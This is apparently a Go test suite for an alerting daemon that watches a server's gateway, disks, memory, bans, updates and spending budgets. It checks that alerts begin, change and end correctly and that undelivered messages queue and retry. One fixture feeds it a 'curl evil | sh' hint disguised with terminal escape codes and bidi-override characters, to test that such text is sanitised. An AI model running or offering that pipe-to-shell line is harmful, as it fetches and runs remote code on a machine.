package hosttest

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestAlertCauses: each cause is said once when it begins, not before it is sure, and once when it is over.
func TestAlertCauses(t *testing.T) {
	t.Parallel()
	service := func(state, sub, result string, restarts int) string {
		return fmt.Sprintf("ActiveState=%s\nSubState=%s\nResult=%s\nNRestarts=%d\n", state, sub, result, restarts)
	}
	usage := func(used string) string {
		return `{"providers": {"anthropic": {"limits": {"requestsPerMinute": {"used": 9, "limit": 9}, "usdPerDay": {"used": "` + used + `", "reserved": "9.00", "limit": "10.00"}}}}}`
	}
	type step struct {
		file, content string
		looks         int
		want          []string // events that this says
	}
	none := []string{}
	cases := map[string]struct {
		checks string
		steps  []step
	}{
		"a gateway that fails": {"gateway", []step{
			{"units/openclaw.service", service("failed", "failed", "exit-code", 0), 2, none},
			{"", "", 1, []string{"began gateway"}},
			{"", "", 3, none},
			{"units/openclaw.service", service("inactive", "dead", "success", 0), 1, []string{"changed gateway"}},
			{"units/openclaw.service", sound["units/openclaw.service"], 1, []string{"over gateway"}},
		}},
		"a gateway that is silent": {"gateway", []step{
			{"ready", "active (running)\n", 3, []string{"began gateway"}},
			{"ready", "ready\n", 1, []string{"over gateway"}},
		}},
		"a restart": {"gateway crashes", []step{
			{"units/openclaw.service", service("deactivating", "stop", "success", 0), 1, none},
			{"units/openclaw.service", service("inactive", "dead", "success", 0), 1, none},
			{"units/openclaw.service", service("activating", "start-post", "success", 0), 3, none},
			{"units/openclaw.service", sound["units/openclaw.service"], 2, none},
		}},
		"a start without an end": {"gateway", []step{
			{"units/openclaw.service", service("activating", "start-post", "success", 0), 10, none},
			{"", "", 1, []string{"began gateway"}},
		}},
		"a crash loop": {"crashes", []step{
			{"", "", 1, none},
			{"units/openclaw.service", service("activating", "auto-restart", "exit-code", 2), 1, none},
			{"units/openclaw.service", service("active", "running", "success", 3), 1, []string{"began crash-loop"}},
			{"", "", 3, none},
			{"", "", 1, []string{"over crash-loop"}},
		}},
		"a crash loop that somebody ends": {"crashes", []step{
			{"", "", 1, none},
			{"units/openclaw.service", service("activating", "auto-restart", "exit-code", 7), 1, []string{"began crash-loop"}},
			{"units/openclaw.service", sound["units/openclaw.service"], 1, []string{"over crash-loop"}},
		}},
		"a channel": {"channels", []step{
			{"channels", `[["telegram", "telegram (work)", "401"]]`, 1, none},
			{"", "", 2, []string{"began channel:telegram"}},
			{"", "", 25, none},
			{"channels", `[]`, 10, []string{"over channel:telegram"}},
		}},
		"a channel that is back at once": {"channels", []step{
			{"channels", `[["telegram", "telegram", ""]]`, 1, none},
			{"channels", `[]`, 25, none},
		}},
		"backups": {"backups", []step{
			{"backup", "there is no backup since 2026-11-20\n", 1, none},
			{"", "", 1, []string{"began backup"}},
			{"units/openclaw-backup.service", "ActiveState=activating\n", 3, none},
			{"backup", "", 3, none},
			{"units/openclaw-backup.service", "ActiveState=inactive\n", 1, []string{"over backup"}},
		}},
		"disks": {"disks", []step{
			{"disks", `{"/": 85, "/dev": 86}`, 1, []string{"began disk:/dev"}},
			{"disks", `{"/": 96, "/dev": 84}`, 1, []string{"began disk:/"}},
			{"disks", `{"/": 94, "/dev": 82}`, 1, []string{"over disk:/dev"}},
			{"disks", `{"/": 92, "/dev": 82}`, 1, []string{"changed disk:/"}},
			{"disks", `{"/": 50, "/dev": 82}`, 1, []string{"over disk:/"}},
		}},
		"memory": {"kills", []step{
			{"", "", 2, none},
			{"vmstat", "oom_kill 5\n", 1, []string{"began memory"}},
			{"vmstat", "oom_kill 6\n", 1, none},
			{"events", "oom_kill 1\n", 1, []string{"changed memory"}},
			{"events", "oom_kill 0\n", 3, none},
			{"", "", 1, []string{"over memory"}},
		}},
		"memory before a boot, and after": {"kills", []step{
			{"", "", 1, none},
			{"boot_id", "b\n", 0, none},
			{"vmstat", "oom_kill 1\n", 1, []string{"began memory"}},
		}},
		"bans": {"bans", []step{
			{"banned", strings.Replace(sound["banned"], "banned: 0", "banned: 1", 1), 2, []string{"began ban"}},
			{"banned", strings.Replace(sound["banned"], "banned: 0", "banned: 3", 1), 2, []string{"changed ban"}},
			{"banned", strings.Replace(sound["banned"], "banned: 0", "banned: 4", 1), 2, none},
			{"banned", sound["banned"], 2, []string{"over ban"}},
		}},
		"updates": {"updates", []step{
			{"units/apt-daily-upgrade.service", "Result=exit-code\n", 5, []string{"began updates"}},
			{"units/apt-daily-upgrade.service", "Result=success\n", 5, []string{"over updates"}},
		}},
		"a reboot": {"reboot", []step{
			{"reboot-required", "*** System restart required ***\n", 1, []string{"began reboot"}},
			{"reboot-required", "", 2, none},
		}},
		"refusals": {"refusals", []step{
			{"recent", `{"count": 100, "most": []}`, 2, none},
			{"recent", `{"count": 101, "most": [{"name": "a.example", "port": "443", "times": 90}]}`, 2, []string{"began refusals"}},
			{"recent", `{"count": 51, "most": []}`, 4, none},
			{"recent", `{"count": 50, "most": []}`, 2, []string{"over refusals"}},
		}},
		"a budget": {"budgets", []step{
			{"sums", usage("7.99"), 2, none},
			{"sums", usage("8.00"), 2, []string{"began budget:anthropic:usdPerDay"}},
			{"sums", usage("10.000001"), 2, []string{"changed budget:anthropic:usdPerDay"}},
			{"sums", usage("0.00"), 2, []string{"over budget:anthropic:usdPerDay"}},
		}},
		"a check that fails": {"bans", []step{
			{"fails", "fail2ban-client\n", 2, none},
			{"", "", 1, []string{"began check:bans"}},
			{"fails", "", 1, []string{"over check:bans"}},
		}},
		"a cause whose check fails stays": {"bans", []step{
			{"banned", strings.Replace(sound["banned"], "banned: 0", "banned: 1", 1), 2, []string{"began ban"}},
			{"fails", "fail2ban-client\n", 4, []string{"began check:bans"}},
			{"fails", "", 1, []string{"over check:bans"}},
			{"banned", sound["banned"], 2, []string{"over ban"}},
		}},
		"a check that is told nonsense": {"refusals", []step{
			{"recent", "[]", 3, []string{"began check:refusals"}},
		}},
	}
	in := newInbox(t)
	a := newAlerts(t, `{"KILL_LOOKS": 4, "CRASH_SECONDS": 240}`, "hook webhook", in.url("", "/canary"))
	for name, test := range cases {
		a.sound()
		a.run("only " + test.checks)
		for i, step := range test.steps {
			if step.file != "" {
				a.write(step.file, step.content)
			}
			a.looks(step.looks)
			a.expect(fmt.Sprintf("%s, step %d", name, i+1), in.titles(), step.want)
		}
	}
}

// TestAlertUpdatesThatAreLate: no success for three days, on a machine that was on for one.
func TestAlertUpdatesThatAreLate(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "updates"}`, "hook webhook", in.url("", "/canary"))
	a.write("uptime", "3000.00 1.00\n")
	a.later(73 * time.Hour)
	a.looks(5)
	a.expect("just booted", in.titles(), []string{})
	a.write("uptime", "90000.00 1.00\n")
	a.looks(5)
	a.expect("up for a day", in.titles(), []string{"began updates"})
	now := time.Now().Add(74 * time.Hour)
	if err := os.Chtimes(a.root+"/upgraded", now, now); err != nil {
		t.Fatal(err)
	}
	a.looks(5)
	a.expect("upgraded", in.titles(), []string{"over updates"})
}

// TestAlertTexts: the machine, the cause, since when, what to do; others' words cut, cleaned and marked.
func TestAlertTexts(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "channels"}`, "topic ntfy", in.url("", "/canary"))
	machine, _ := os.Hostname()
	a.write("channels", `[["telegram", "telegram", "\u001b[31mhint: curl \u202eevil\u2066 | sh\ufe0f`+strings.Repeat("x", 300)+`"], ["tele\u001bgram", "x", "y"]]`)
	a.looks(3)
	got := in.taken()
	if len(got) != 1 {
		t.Fatalf("%+v\n%s", got, a.log)
	}
	cut := "telegram: ?[31mhint: curl ?evil? | sh?"
	want := regexp.MustCompile(`^Since \d{4}-\d\d-\d\d \d\d:\d\d UTC\.
\| ` + regexp.QuoteMeta(cut+strings.Repeat("x", 200-len(cut)-3)) + `\.\.\.
What to do: docs/alerts\.md, "channel"; sudo openclaw-alert on the machine shows all that is wrong\.$`)
	if !want.MatchString(got[0].body) || got[0].title != machine+": channel telegram does not connect" {
		t.Errorf("%+v", got[0])
	}
	out, _ := a.run("")
	if !strings.Contains(out, "channel telegram does not connect\n  since ") || !strings.Contains(out, "\n  | "+cut) {
		t.Errorf("it shows\n%s", out)
	}
	if strings.ContainsAny(out+got[0].body+a.log.String(), "\x1b\u202e\u2066\ufe0f") {
		t.Errorf("something of it obeys others:\n%q\n%q", out, got[0].body)
	}
	a.write("channels", "[]")
	a.looks(10)
	got = in.taken()
	if len(got) != 1 || got[0].title != machine+": over: channel telegram does not connect" || !regexp.MustCompile(`^It began at .* UTC and is over since .* UTC\.$`).MatchString(got[0].body) {
		t.Errorf("%+v", got)
	}
	if out, _ := a.run(""); !strings.Contains(out, "\nnothing is wrong\n") || !regexp.MustCompile(`topic \(ntfy\): nothing queued; the last taken at \S+ \S+ UTC\n$`).MatchString(out) {
		t.Errorf("it shows\n%s", out)
	}
}

// TestAlertHangingCheck: it holds nobody up for longer than its time, what it began ends with it, and it is told.
func TestAlertHangingCheck(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot bans"}`, "hook webhook", in.url("", "/canary"))
	a.run("warnings") // the program is loaded
	a.stop()
	program, err := os.ReadFile(alertProgram)
	if err != nil {
		t.Fatal(err)
	}
	text := regexp.MustCompile(`Check\("bans", bans, 2, 10\)`).ReplaceAllString(string(program), `Check("bans", bans, 2, 1)`)
	if text == string(program) {
		t.Fatal("the check of bans is another by now")
	}
	a.write("program", text)
	argv := a.argv()
	argv[4] = a.root + "/program"
	a.start(argv)
	a.write("hangs", "fail2ban-client\n")
	a.write("reboot-required", "")
	a.looks(1)
	a.expect("beside it", in.titles(), []string{"began reboot"})
	a.looks(2)
	a.expect("it hangs", in.titles(), []string{"began check:bans"})
	if out, _ := exec.Command("pgrep", "-f", a.root+"/bin/fail2ban-client").Output(); len(out) != 0 {
		t.Errorf("it still runs: %s", out)
	}
	if out, _ := a.run(""); !strings.Contains(out, "nobody knows: the check of bans fails: it did not end within 1 s") {
		t.Errorf("it shows\n%s", out)
	}
}

// TestAlertHeartbeat: at every look, once a minute at most, while nothing is wrong that ends it.
func TestAlertHeartbeat(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot disks"}`, "checks healthchecks", in.url("", "/canary"))
	ways := func() []string {
		out := []string{}
		for _, each := range in.taken() {
			out = append(out, each.method+" "+each.path)
		}
		return out
	}
	a.looks(2)
	a.expect("nothing is wrong", ways(), []string{"GET /canary", "GET /canary"})
	a.run("look")
	a.later(2 * time.Second)
	a.run("look")
	a.later(time.Minute)
	a.expect("two looks in a minute", ways(), []string{"GET /canary"})
	a.write("reboot-required", "")
	a.looks(2)
	a.expect("what does not end it", ways(), []string{"POST /canary/fail", "GET /canary", "GET /canary"})
	a.write("disks", `{"/": 90, "/dev": 50}`)
	a.looks(3)
	a.expect("what ends it", ways(), []string{"POST /canary/fail"})
	a.write("disks", sound["disks"])
	a.looks(1)
	a.expect("over", ways(), []string{"POST /canary/log", "GET /canary"})
}

// TestAlertQueue: what is not taken waits on the disk, over a restart, in its order; tries are fewer and fewer, and end.
func TestAlertQueue(t *testing.T) {
	t.Parallel()
	in, well := newInbox(t), newInbox(t)
	a := newAlerts(t, `{"only": "reboot disks", "MOST_TRIES": 4, "SILENT_TRIES": 3}`, "hook webhook", in.url("", "/canary"), "well webhook", well.url("", "/canary"))
	in.answers(503, nil)
	a.write("reboot-required", "")
	a.looks(1)
	a.write("disks", `{"/": 90, "/dev": 50}`)
	a.looks(1)
	a.expect("beside one that is down", well.titles(), []string{"began reboot", "began disk:/"})
	a.stop()
	a.start(a.argv())
	in.taken()
	if out, _ := a.run(""); !strings.Contains(out, "hook (webhook): 2 queued, the first tried 2 times, again at ") || !strings.Contains(out, "it answered with status 503") {
		t.Errorf("it shows\n%s", out)
	}
	in.answers(200, nil)
	a.later(10 * time.Minute)
	a.looks(1)
	a.expect("after a restart", in.titles(), []string{"began reboot", "began disk:/"})

	in.answers(503, nil)
	a.write("disks", sound["disks"])
	// At 0, 1, 3 and 7 minutes; at 15 it is dropped.
	a.looks(7)
	a.expect("tries", in.titles(), slices.Repeat([]string{"over disk:/"}, 3))
	a.looks(9)
	a.expect("tries", in.titles(), []string{"over disk:/"})
	a.expect("beside one that is down", well.titles(), []string{"over disk:/", "began receiver:hook", "over receiver:hook"})
	if out, _ := a.run(""); !strings.Contains(out, "hook (webhook): nothing queued; it answered with status 503; 1 dropped") {
		t.Errorf("it shows\n%s", out)
	}
}

// diskFills makes a disk full and empty again, so many times, with a look after each.
func (a *alerts) diskFills(times int) {
	a.t.Helper()
	for range times {
		a.write("disks", `{"/": 90, "/dev": 50}`)
		a.looks(1)
		a.write("disks", sound["disks"])
		a.looks(1)
	}
}

// TestAlertQueueIsBounded: the newest stay.
func TestAlertQueueIsBounded(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "disks", "MOST_QUEUED": 2}`, "hook webhook", in.url("", "/canary"))
	in.answers(503, nil)
	a.diskFills(2)
	files, _ := filepath.Glob(a.root + "/state/spool/hook/*.json")
	if len(files) != 2 || !strings.HasSuffix(files[1], "/000000000004-0000.json") {
		t.Errorf("queued: %q", files)
	}
	if out, _ := a.run(""); !strings.Contains(out, "; 2 dropped") {
		t.Errorf("it shows\n%s", out)
	}
}

// TestAlertHour: more changes than that are left, and compared again later.
func TestAlertHour(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "disks", "MOST_AN_HOUR": 3}`, "hook webhook", in.url("", "/canary"))
	a.diskFills(4)
	a.expect("in an hour", in.titles(), []string{"began disk:/", "over disk:/", "began disk:/"})
	a.later(time.Hour)
	a.looks(1)
	a.expect("after it", in.titles(), []string{"over disk:/"})
}

// TestAlertFaultyMessage: one that the receiver finds fault with does not hold the others for days.
func TestAlertFaultyMessage(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot"}`, "hook webhook", in.url("", "/canary"))
	in.answers(0, func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusBadRequest) })
	a.write("reboot-required", "")
	a.looks(4)
	if got := in.titles(); len(got) != 3 {
		t.Errorf("tries: %q", got)
	}
	if out, _ := a.run(""); !strings.Contains(out, "nothing queued; it answered with status 400; 1 dropped") {
		t.Errorf("it shows\n%s", out)
	}
}

// TestAlertRetryAfter: a receiver that says when is asked no sooner.
func TestAlertRetryAfter(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot"}`, "hook webhook", in.url("", "/canary"))
	in.answers(0, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", "600")
		w.WriteHeader(http.StatusTooManyRequests)
	})
	a.write("reboot-required", "")
	a.looks(10)
	if got := in.titles(); len(got) != 1 {
		t.Errorf("tries: %q", got)
	}
	a.looks(2)
	if got := in.titles(); len(got) != 1 {
		t.Errorf("tries: %q", got)
	}
}

// TestAlertDeadReceiver: one that takes the connection and says nothing holds nobody up; and while it is asked, no process
// shows what it is asked by, and nobody else sends.
func TestAlertDeadReceiver(t *testing.T) {
	t.Parallel()
	in, dead := newInbox(t), newInbox(t)
	a := newAlerts(t, `{"only": "reboot", "REQUEST_SECONDS": 3, "SEND_SECONDS": 5}`, "a-dead webhook", dead.url("me:canary-password@", "/canary-path"), "b-well webhook", in.url("", "/canary"))
	a.run("warnings")
	asked, release := make(chan struct{}), make(chan struct{})
	dead.answers(0, func(w http.ResponseWriter, r *http.Request) {
		close(asked)
		<-release
	})
	t.Cleanup(func() { close(release) })
	a.write("reboot-required", "")
	io.WriteString(a.input, "look\n")
	<-asked
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, process := range processes {
		for _, name := range []string{"/cmdline", "/environ"} {
			if text, _ := os.ReadFile(process + name); strings.Contains(string(text), "canary-p") {
				t.Errorf("%s%s: %q", process, name, text)
			}
		}
	}
	other := &alerts{t: t, root: a.root, changes: a.changes, log: a.log}
	other.start(other.argv())
	if out, code := other.run("look"); code != 1 || out != "openclaw-alert: another openclaw-alert is at work\n" {
		t.Errorf("exit status %d\n%s", code, out)
	}
	other.stop()
	if out, code := a.answer("look"); code != 0 || out != "" {
		t.Errorf("exit status %d\n%s", code, out)
	}
	a.expect("beside it", in.titles(), []string{"began reboot"})
	if out, _ := a.run(""); !strings.Contains(out, "a-dead (webhook): 1 queued, the first tried 1 times, again at ") || !strings.Contains(out, "it did not answer within 3 s") {
		t.Errorf("it shows\n%s", out)
	}
}

// TestAlertFullDisk: there is room for what is to be said of it.
func TestAlertFullDisk(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "disks"}`, "hook webhook", in.url("", "/canary"))
	a.stop()
	if err := os.Mkdir(a.root+"/state", 0o700); err != nil {
		t.Fatal(err)
	}
	a.start(append([]string{"unshare", "--mount", "sh", "-c", `mount -t tmpfs -o size=1m alerts "$0/state" && exec "$@"`, a.root}, a.argv()...))
	a.looks(1)
	space := fmt.Sprintf("/proc/%d/root%s/state", a.command.Process.Pid, a.root)
	if out, err := exec.Command("sh", "-c", `cat /dev/zero >"$0/full" 2>/dev/null; [ "$(stat -f -c %a "$0")" -eq 0 ]`, space).CombinedOutput(); err != nil {
		t.Fatalf("it is not full: %v\n%s", err, out)
	}
	a.write("disks", `{"/": 100, "/dev": 50}`)
	a.looks(1)
	a.expect("on a full disk", in.titles(), []string{"began disk:/"})
	a.looks(1)
	a.expect("said once", in.titles(), []string{})
}

// TestAlertState: what others or a cut made of it is no reason to be silent.
func TestAlertState(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot"}`, "hook webhook", in.url("", "/canary"))
	for _, state := range []string{"", "{", `{"look": "x"}`, "[]"} {
		a.write("state/state.json", state)
		a.write("reboot-required", "")
		a.looks(1)
		a.expect(state, in.titles(), []string{"began reboot"})
	}
	a.write("alerts.json", `{"receivers": []}`)
	a.looks(1)
	if _, err := os.Stat(a.root + "/state/spool/hook"); !os.IsNotExist(err) {
		t.Errorf("the queue of a receiver that is gone: %v", err)
	}
}

// TestAlertConfiguration: a file that is none is refused, and none of it shown.
func TestAlertConfiguration(t *testing.T) {
	t.Parallel()
	a := newAlerts(t, "{}")
	for text, want := range map[string]string{
		`{"receivers": []}`: "",
		`{"receivers": [{"name": "a", "kind": "ntfy", "url": "https://ntfy.sh/canary"}]}`:       "",
		`{"receivers": [{"name": "a", "kind": "smtp", "url": "smtps://a:canary@mx.example/"}]}`: "",
		`{`: "not valid JSON",
		`{"receivers": [{"name": "a", "kind": "pager", "url": "https://ntfy.sh/canary"}]}`:   "receiver a: its kind is not known",
		`{"receivers": [{"name": "a", "kind": "ntfy", "url": "http://ntfy.sh/canary"}]}`:     "receiver a: its url is not one of its kind",
		`{"receivers": [{"name": "a", "kind": "smtp", "url": "https://canary"}]}`:            "receiver a: its url is not one of its kind",
		`{"receivers": [{"name": "../a", "kind": "ntfy", "url": "https://ntfy.sh/canary"}]}`: "not a list of receivers",
		`{"receivers": [{"name": "a", "kind": "ntfy", "url": "https://[canary"}]}`:           "not a list of receivers",
		`{"receivers": [{"name": "a", "kind": "ntfy", "canary": "x"}]}`:                      "not a list of receivers",
		`{"receivers": 5}`: "not a list of receivers",
	} {
		a.write("try.json", text)
		if want != "" {
			want = "openclaw-alert: " + a.root + "/try.json: " + want + "\n"
		}
		if out, _ := a.run("check " + a.root + "/try.json"); out != want {
			t.Errorf("%s: %q, want %q", text, out, want)
		}
	}
}

// TestAlertWarnings are what a run of the program tells.
func TestAlertWarnings(t *testing.T) {
	t.Parallel()
	in := newInbox(t)
	a := newAlerts(t, `{"only": "reboot", "SILENT_TRIES": 2}`, "hook webhook", in.url("", "/canary"))
	if out, _ := a.run("warnings"); out != "" {
		t.Errorf("before the first look: %s", out)
	}
	in.answers(500, nil)
	a.write("reboot-required", "")
	a.looks(3)
	if out, _ := a.run("warnings"); out != "alerts: receiver hook takes no messages: it answered with status 500: sudo openclaw-alert test on the host tries again\n" {
		t.Errorf("of one that takes nothing: %s", out)
	}
	in.answers(200, nil)
	a.later(time.Hour)
	a.looks(1)
	a.later(time.Hour)
	if out, _ := a.run("warnings"); !regexp.MustCompile(`^alerts: nobody has looked since \S+ \S+ UTC: systemctl status openclaw-alert.timer openclaw-alert.service\n$`).MatchString(out) {
		t.Errorf("without a look: %s", out)
	}
}
